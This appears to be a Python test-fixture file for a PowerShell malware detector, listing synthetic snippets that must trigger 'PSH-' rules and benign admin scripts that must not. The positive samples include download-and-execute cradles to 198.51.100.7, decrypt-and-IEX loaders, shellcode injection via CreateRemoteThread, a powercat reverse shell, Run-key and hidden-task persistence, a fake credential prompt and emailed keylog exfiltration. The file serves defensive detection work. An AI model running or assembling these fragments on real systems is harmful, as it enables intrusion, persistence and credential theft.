"""Examples for the `PSH-` rules; every text is synthetic, written for these tests."""

from __future__ import annotations

from wingman.core.scripts.types import Lang

PS = Lang.POWERSHELL
BAT = Lang.BATCH

# (rule id, language of the layer, text that must fire the rule)
POSITIVE: tuple[tuple[str, Lang, str], ...] = (
    (
        "PSH-001",
        PS,
        "(New-Object System.Net.WebClient).DownloadFile('http://198.51.100.7/a.exe',"
        '"$env:TEMP\\upd.exe");Start-Process ("$env:TEMP\\upd.exe")',
    ),
    (
        "PSH-001",
        PS,
        "$wc = New-Object Net.WebClient\n$wc.DownloadFile($url, $target)\n"
        "Write-Output done\nStart-Process -FilePath $target",
    ),
    ("PSH-001", PS, "iwr http://198.51.100.7/b -OutFile b.exe; .\\b.exe"),
    (
        "PSH-001",
        PS,
        "Start-BitsTransfer -Source http://198.51.100.7/c -Destination $env:APPDATA\\c.exe;"
        ' [Diagnostics.Process]::Start("$env:APPDATA\\c.exe")',
    ),
    (
        "PSH-001",
        BAT,
        "powershell -w hidden -c \"(New-Object Net.WebClient).DownloadFile('http://198.51.100.7/d',"
        "'d.exe');Start-Process 'd.exe'\"",
    ),
    (
        "PSH-001",
        PS,
        "Invoke-WebRequest -Uri http://198.51.100.7/p -OutFile C:\\Users\\Public\\p.exe;"
        " C:\\Users\\Public\\p.exe",
    ),
    ("PSH-001", PS, "Start-BitsTransfer $u $env:TEMP\\b.exe; & $env:TEMP\\b.exe"),
    (
        "PSH-001",
        PS,
        "$wc.DownloadFile($u, $p); ([wmiclass]'win32_process').Create($p)",
    ),
    (
        "PSH-002",
        PS,
        "$c.DownloadFile($u, $p)\nStart-Process $env:PUBLIC\\svc.exe",
    ),
    (
        "PSH-003",
        PS,
        "$w = New-Object System.Net.WebClient\n$w.Headers.Add('User-Agent', $ua)\n"
        "$w.Proxy = [System.Net.WebRequest]::DefaultWebProxy\n"
        "$w.Proxy.Credentials = [System.Net.CredentialCache]::DefaultNetworkCredentials",
    ),
    (
        "PSH-004",
        PS,
        "$k='s3cr3t';$i=0;[char[]]$b=([char[]]($w.DownloadString($u)))|%{$_-bxor$k[$i++%6]};"
        "IEX ($b-join'')",
    ),
    (
        "PSH-004",
        PS,
        "$d=$w.DownloadData($u);$iv=$d[0..3];-join[Char[]](& $R $d[4..$d.Length] ($iv+$k))|IEX",
    ),
    (
        "PSH-005",
        PS,
        "$s = $w.DownloadString('http://198.51.100.7/s'); Invoke-Expression -Command $s",
    ),
    (
        "PSH-006",
        PS,
        '$u = "http://198.51.100.7/p.txt?id=" + $env:COMPUTERNAME; $w.DownloadString($u)',
    ),
    (
        "PSH-007",
        PS,
        "$b = [Convert]::FromBase64String($blob)\n"
        '[IO.File]::WriteAllBytes("$env:TEMP\\svc.exe", $b)',
    ),
    (
        "PSH-007",
        PS,
        '$f = "$dir\\run.vbs"\n'
        "$t = [Text.Encoding]::ASCII.GetString([Convert]::FromBase64String($e))\n"
        "Set-Content $f $t",
    ),
    (
        "PSH-008",
        PS,
        "[Byte[]]$sc = "
        + ",".join(f"0x{value:02x}" for value in range(0xF0, 0xF0 - 40, -1))
        + "\n$m = $k::VirtualAlloc(0, 4096, 0x3000, 0x40)",
    ),
    (
        "PSH-009",
        PS,
        '$d = @"\n[DllImport("kernel32.dll")] public static extern IntPtr VirtualAlloc(IntPtr a,'
        ' uint s, uint t, uint p);\n[DllImport("kernel32.dll")] public static extern IntPtr'
        ' CreateThread(IntPtr a, uint s, IntPtr f, IntPtr p, uint c, IntPtr i);\n"@\n'
        "$k = Add-Type -MemberDefinition $d -Name K -Namespace W -PassThru",
    ),
    (
        "PSH-010",
        PS,
        "$gpa = $unsafe.GetMethod('GetProcAddress', [Type[]]@([IntPtr], [String]))",
    ),
    (
        "PSH-010",
        PS,
        "$tb.DefinePInvokeMethod('VirtualProtect', 'kernel32.dll', $attrs, $conv, [Bool], $args,"
        " $cc, $cs)",
    ),
    (
        "PSH-011",
        PS,
        "$dos = [Runtime.InteropServices.Marshal]::PtrToStructure($ptr, [Type]$IMAGE_DOS_HEADER)\n"
        "$base = $k::VirtualAlloc([IntPtr]::Zero, $size, 0x3000, 0x40)\n"
        "$f = $k::GetProcAddress($mod, $name)",
    ),
    (
        "PSH-012",
        PS,
        "$h = $k::OpenProcess(0x1F0FFF, $false, $target)\n"
        "$r = $k::VirtualAllocEx($h, 0, $sc.Length, 0x3000, 0x40)\n"
        "$k::WriteProcessMemory($h, $r, $sc, $sc.Length, [ref]0)\n"
        "$k::CreateRemoteThread($h, 0, 0, $r, 0, 0, 0)",
    ),
    (
        "PSH-013",
        PS,
        "$b = $w.DownloadData($u)\n[IO.File]::WriteAllBytes($out, $b)\nStart-Process $out",
    ),
    (
        "PSH-014",
        PS,
        "$S=0..255;0..255|%{$J=($J+$S[$_]+$K[$_%$K.Count])%256;$S[$_],$S[$J]=$S[$J],$S[$_]};"
        "$D|%{$I=($I+1)%256;$H=($H+$S[$I])%256;$_-bxor$S[($S[$I]+$S[$H])%256]}",
    ),
    (
        "PSH-015",
        PS,
        "[System.Net.ServicePointManager]::ServerCertificateValidationCallback = {$true}",
    ),
    (
        "PSH-020",
        PS,
        '$key = "HKCU:\\SOFTWARE\\Policies\\Microsoft\\Office\\16.0\\outlook\\security"\n'
        "New-ItemProperty $key -Name PromptOOMSend -Value 2 -PropertyType DWORD -Force",
    ),
    (
        "PSH-021",
        PS,
        "$o = New-Object -ComObject Outlook.Application\n$ns = $o.GetNamespace('MAPI')",
    ),
    ("PSH-022", PS, "Invoke-Shellcode -Payload windows/meterpreter/reverse_https -Force"),
    ("PSH-022", PS, "function Get-Keystrokes {\n  param([String] $LogPath)\n}"),
    ("PSH-022", PS, "powercat -c 198.51.100.7 -p 443 -e cmd"),
    (
        "PSH-023",
        PS,
        "$s = Out-ObfuscatedTokenCommand -ScriptBlock $sb -TokenTypeToObfuscate Command",
    ),
    (
        "PSH-024",
        PS,
        "Set-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"
        ' -Name Updater -Value "$env:APPDATA\\upd\\updater.exe"',
    ),
    (
        "PSH-024",
        PS,
        '$root = "HKCU:\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run"\n'
        "New-ItemProperty -Path $root -Name Sync -Value"
        ' "C:\\Users\\jdoe\\AppData\\Local\\Sync\\sync.exe"',
    ),
    (
        "PSH-024",
        PS,
        "New-ItemProperty HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name U"
        " -Value 'powershell.exe -NoP -WindowStyle Hidden -File x.ps1'",
    ),
    (
        "PSH-025",
        PS,
        "$s = New-Object -ComObject Schedule.Service\n$s.Connect()\n$t = $s.NewTask(0)\n"
        "$t.Settings.Hidden = $true\n$f.RegisterTaskDefinition('Updater', $t, 6, $null, $null, 3)",
    ),
    (
        "PSH-026",
        PS,
        "$a = New-ScheduledTaskAction -Execute 'C:\\ProgramData\\Sync\\sync.exe'\n"
        "Register-ScheduledTask -TaskName Sync -Action $a -Trigger $t",
    ),
    (
        "PSH-027",
        PS,
        '[DllImport("Advapi32.dll", SetLastError = true, EntryPoint = "CredEnumerateW")]\n'
        "private static extern bool CredEnumerateW(string filter, int flags, out int count,"
        " out IntPtr creds);",
    ),
    (
        "PSH-028",
        PS,
        "$in = [System.IO.File]::OpenRead($src)\n$n = 1\n"
        'while ($got = $in.Read($buf, 0, $size)) {\n  $part = "$prefix$n"\n'
        "  $out = [System.IO.File]::OpenWrite($part)\n  $out.Write($buf, 0, $got)\n"
        "  $out.Close()\n  $n += 1\n}",
    ),
    (
        "PSH-029",
        PS,
        '$g.CopyFromScreen(0, 0, 0, 0, $bmp.Size)\n$bmp.Save("$env:APPDATA\\s$i.png")',
    ),
    (
        "PSH-030",
        PS,
        "$c = $Host.UI.PromptForCredential('Session expired', 'Sign in again', $u, '')\n"
        "$c.GetNetworkCredential().Password | Out-File $env:TEMP\\c.txt",
    ),
    (
        "PSH-031",
        PS,
        "$m = New-Object Net.Mail.MailMessage($from, $to, 'log', 'log')\n"
        '$m.Attachments.Add("$env:TEMP\\keys.log")\n'
        "$s = New-Object Net.Mail.SmtpClient($server, 587)\n$s.Send($m)",
    ),
)

# (language, text) that no rule may judge suspicious
BENIGN: tuple[tuple[Lang, str], ...] = (
    # A package-manager bootstrapper: downloads a zip, unpacks it, runs the installer script.
    (
        PS,
        '$url = "https://packages.example.org/api/v2/package/tool"\n'
        '$tempDir = Join-Path $env:TEMP "tool"\n'
        "if (-not (Test-Path $tempDir)) {\n"
        "  New-Item -ItemType Directory -Path $tempDir | Out-Null\n}\n"
        '$file = Join-Path $tempDir "tool.zip"\n'
        "$wc = New-Object System.Net.WebClient\n"
        "$wc.Proxy = [System.Net.WebRequest]::DefaultWebProxy\n"
        "$wc.Proxy.Credentials = [System.Net.CredentialCache]::DefaultNetworkCredentials\n"
        "$wc.DownloadFile($url, $file)\n"
        "Expand-Archive -Path $file -DestinationPath $tempDir -Force\n"
        '$installer = Join-Path $tempDir "tools\\install.ps1"\n'
        "& $installer",
    ),
    # An SDK installer: proxy-aware download with HttpClient, then extraction.
    (
        PS,
        "$DefaultProxy = [System.Net.WebRequest]::DefaultWebProxy\n"
        "$handler = New-Object System.Net.Http.HttpClientHandler\n"
        "$handler.Proxy = New-Object System.Net.WebProxy -Property @{\n"
        "  UseDefaultCredentials = $true\n}\n"
        "$client = New-Object System.Net.Http.HttpClient -ArgumentList $handler\n"
        "$response = $client.GetAsync($Uri).Result\n"
        "Invoke-WebRequest -UseBasicParsing -Uri $zipUri -OutFile $ZipPath\n"
        "Expand-Archive -Path $ZipPath -DestinationPath $InstallRoot",
    ),
    # A silent vendor installer downloaded to TEMP and run with its documented switches.
    (
        PS,
        '$out = "$env:TEMP\\vc_redist.x64.exe"\n'
        "Invoke-WebRequest -Uri https://download.example.com/vc_redist.x64.exe -OutFile $out\n"
        "Start-Process -FilePath $out -ArgumentList '/install /quiet /norestart' -Wait\n"
        "Remove-Item $out",
    ),
    # An installer downloaded and run to completion with arguments built elsewhere.
    (
        PS,
        "$exe = Join-Path $env:TEMP 'setup.exe'\n"
        "(New-Object Net.WebClient).DownloadFile($url, $exe)\n"
        "Start-Process -FilePath $exe -ArgumentList $installArgs -Wait",
    ),
    # A gallery module loading its own helper assembly without locking the file.
    (
        PS,
        '$dll = Join-Path $PSScriptRoot "lib\\Helper.dll"\n'
        "$asm = [System.Reflection.Assembly]::Load([System.IO.File]::ReadAllBytes($dll))\n"
        "Export-ModuleMember -Function Get-Report",
    ),
    # Window helpers through P/Invoke: user32 only, nothing that runs code from memory.
    (
        PS,
        'Add-Type @"\nusing System; using System.Runtime.InteropServices;\npublic class Win {\n'
        '  [DllImport("user32.dll")] public static extern IntPtr GetForegroundWindow();\n'
        '  [DllImport("user32.dll")] public static extern bool ShowWindow(IntPtr h, int c);\n'
        '}\n"@\n'
        "[Win]::ShowWindow([Win]::GetForegroundWindow(), 6)",
    ),
    # A maintenance task from an admin script folder, visible and signed.
    (
        PS,
        "$action = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument"
        " '-File C:\\Scripts\\cleanup.ps1'\n"
        "$trigger = New-ScheduledTaskTrigger -Daily -At 3am\n"
        "Register-ScheduledTask -TaskName Cleanup -Action $action -Trigger $trigger",
    ),
    # An installer registering its tray program under Program Files.
    (
        PS,
        "Set-ItemProperty -Path HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"
        ' -Name Tray -Value "C:\\Program Files\\Vendor\\tray.exe"',
    ),
    # A report mailed through Outlook.
    (
        PS,
        "$outlook = New-Object -ComObject Outlook.Application\n"
        "$ns = $outlook.GetNamespace('MAPI')\n$mail = $outlook.CreateItem(0)\n"
        "$mail.To = 'team@example.org'\n$mail.Subject = 'Weekly report'\n"
        "$mail.Attachments.Add('C:\\Reports\\weekly.xlsx')\n$mail.Send()",
    ),
    # Copying a large file with progress, block by block.
    (
        PS,
        "$in = [System.IO.File]::OpenRead($src)\n$out = [System.IO.File]::OpenWrite($dst)\n"
        "while (($n = $in.Read($buf, 0, $buf.Length)) -gt 0) { $out.Write($buf, 0, $n) }\n"
        "$in.Close(); $out.Close()",
    ),
    # A module writing an embedded, base64-encoded config file.
    (
        PS,
        "$json = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($embedded))\n"
        'Set-Content -Path "$env:APPDATA\\Tool\\settings.json" -Value $json',
    ),
    # An admin script passing a prompted password on to a database connection.
    (
        PS,
        "$cred = Get-Credential -Message 'SQL login'\n"
        "$pw = $cred.GetNetworkCredential().Password\n"
        '$conn = New-Object System.Data.SqlClient.SqlConnection("Server=db;Password=$pw")',
    ),
    # A screenshot helper saving to the user's Pictures folder.
    (
        PS,
        '$g.CopyFromScreen(0, 0, 0, 0, $bmp.Size)\n$bmp.Save("$HOME\\Pictures\\shot.png")',
    ),
    # A nightly report mailed from a share.
    (
        PS,
        "$m = New-Object Net.Mail.MailMessage($from, $to, 'Report', 'Attached')\n"
        "$m.Attachments.Add('\\\\fs01\\reports\\daily.csv')\n"
        "(New-Object Net.Mail.SmtpClient('smtp.example.org')).Send($m)",
    ),
    # Parsing a PE header to report the machine type (no allocation, no loading).
    (
        PS,
        "$bytes = [IO.File]::ReadAllBytes($path)\n"
        "$e_lfanew = [BitConverter]::ToInt32($bytes, 0x3C)\n"
        "$machine = [BitConverter]::ToUInt16($bytes, $e_lfanew + 4)",
    ),
)
